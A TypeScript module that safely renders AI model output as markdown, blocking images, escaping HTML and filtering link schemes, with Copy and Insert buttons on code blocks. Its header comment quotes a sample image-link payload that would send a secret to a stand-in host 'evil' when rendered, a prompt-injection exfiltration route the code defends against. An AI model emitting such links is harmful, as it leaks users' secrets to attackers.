// Markdown for model output. The model is untrusted (SECURITY.md PI-08): an image such as
// `![x](https://evil/?q=<secret>)` would be fetched the moment it is rendered, so images are
// never emitted as <img>; raw HTML is escaped; only ordinary link schemes survive.
import MarkdownIt from "markdown-it";

export function escapeHtml(text: string): string {
  return text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/'/g, "&#39;");
}

const SAFE_LINK = /^(https?:|mailto:)/i;
const HAS_SCHEME = /^[a-z][a-z0-9+.-]*:/i;

function createRenderer(): MarkdownIt {
  // breaks: a single newline is a line break, as in chat UIs (and local answers are plain lines).
  const md = new MarkdownIt({ html: false, linkify: false, typographer: false, breaks: true });
  // Relative links and fragments are harmless; any other scheme (javascript:, data:, file:, command:) is dropped.
  md.validateLink = (url: string): boolean => SAFE_LINK.test(url.trim()) || !HAS_SCHEME.test(url.trim());
  md.renderer.rules.image = (tokens, index) => {
    const token = tokens[index];
    const alt = token.children ? md.renderer.renderInlineAsText(token.children, md.options, {}) : token.content;
    const source = token.attrGet("src") ?? "";
    return (
      `<span class="claw-image-blocked" title="${escapeHtml(`image not loaded: ${source}`)}">` +
      `[image not loaded: ${escapeHtml(alt || source)}]</span>`
    );
  };
  // Each code block gets Copy and Insert at cursor; the code rides along escaped in a data attribute.
  const fence = md.renderer.rules.fence;
  md.renderer.rules.fence = (tokens, index, options, env, self) => {
    const code = tokens[index].content;
    const inner = fence ? fence(tokens, index, options, env, self) : `<pre><code>${escapeHtml(code)}</code></pre>`;
    const data = `data-code="${escapeHtml(code)}"`;
    return (
      `<div class="code-block"><div class="code-actions">` +
      `<button class="secondary" data-action="copyCode" data-keep="enabled" ${data} aria-label="Copy code">Copy</button>` +
      `<button class="secondary" data-action="insertCode" data-keep="enabled" ${data} aria-label="Insert code at the cursor">Insert at cursor</button>` +
      `</div>${inner}</div>`
    );
  };
  return md;
}

const renderer = createRenderer();

export function renderMarkdown(text: string): string {
  return renderer.render(text);
}
